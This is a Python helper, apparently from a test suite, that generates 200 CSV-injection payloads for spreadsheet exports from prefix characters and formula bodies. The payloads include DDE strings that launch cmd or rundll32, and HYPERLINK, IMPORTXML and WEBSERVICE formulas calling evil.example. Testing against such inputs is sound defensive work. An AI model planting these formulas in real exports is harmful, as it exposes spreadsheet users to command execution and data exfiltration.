"""Texts that spreadsheets have been attacked with (OWASP, CSV injection), built from their kinds."""

from __future__ import annotations

from itertools import product
from pathlib import Path

SHARED = Path(__file__).resolve().parents[3] / "shared" / "data" / "hostile" / "csv-injection"
STARTS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", "'=", " =", "\u00a0=", "\u200b=")
BODIES = (
    "1+1",
    "SUM(1+1)",
    "cmd|' /C calc'!A0",
    "cmd|'/c notepad'!'A1'",
    'HYPERLINK("http://evil.example","x")',
    'IMPORTXML("http://evil.example","//a")',
    'WEBSERVICE("http://evil.example")',
    "rundll32|'x.dll,0'!A",
    "A1&CHAR(10)",
    "1E400",
    "#REF!",
    "{1,2}",
)
ALONE = (
    "http://evil.example",
    "https://evil.example/?x=1",
    "mailto:a@evil.example",
    "file://evil/x",
    "internal:表!A1",
    "external:x.xlsx",
    "#N/A",
    "#REF!",
    "TRUE",
    "1E5",
    "00123",
    "_x003D_1+1",
    "_x000D_",
    "{=1+1}",
    "<f>1+1</f>",
    "]]><f>1</f>",
    "&#61;1+1",
    'DDE("cmd";"/C calc";"!A0")A0',
    "%0A=1+1",
    ";=1+1",
    ",=1+1",
    '"=1+1',
)
WANTED = 200


def payloads() -> list[str]:
    """Two hundred, each once, those of ../shared first where it is there."""
    file = SHARED / "payloadbox-csv-payload.txt"
    given = file.read_text("utf-8").splitlines() if file.is_file() else []
    made = [f"{start}{body}" for start, body in product(STARTS, BODIES)]
    found = list(dict.fromkeys([*filter(None, given), *ALONE, *made]))[:WANTED]
    assert len(found) == WANTED
    return found
